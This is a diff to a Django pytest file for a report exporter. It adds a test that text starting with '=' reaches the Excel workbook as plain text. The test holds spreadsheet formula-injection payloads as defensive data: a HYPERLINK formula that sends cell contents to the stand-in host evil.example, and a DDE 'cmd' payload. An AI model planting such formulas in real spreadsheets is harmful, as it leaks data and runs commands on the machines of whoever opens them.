@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 from django.template.loader import render_to_string
+from django.utils import timezone
 from docx import Document
 from docx.oxml.ns import qn
 from lxml import etree as lxml_etree
@@ -226,3 +227,19 @@ def test_every_word_of_the_pdf_stays_inside_the_page_margins_in_one_sans_serif_f
     fonts = subprocess.run(["pdffonts", str(path)], check=True, capture_output=True, text=True).stdout
     names = [line.split()[0] for line in fonts.splitlines()[2:]]
     assert names and all("Liberation-Sans" in name for name in names), names
+
+
+def test_text_starting_with_an_equals_sign_is_text_in_the_excel_workbook_never_a_formula(world):
+    """Formula injection: a plan title, action or progress note written as a formula must reach
+    Excel as the text itself (shown as written), not as a formula Excel would run."""
+    world.plan.title = "=1+1"
+    world.plan.save()
+    world.police_action.text = '=HYPERLINK("http://evil.example/?leak="&A1,"Click to see the evidence")'
+    world.police_action.save()
+    factories.ProgressUpdateFactory(action=world.police_action, narrative="=cmd|' /C calc'!A0")
+    wb = load_workbook(io.BytesIO(render_xlsx(build_report(plan=world.plan, as_at=timezone.localdate()))))
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert "=1+1" in values
+    assert world.police_action.text in values
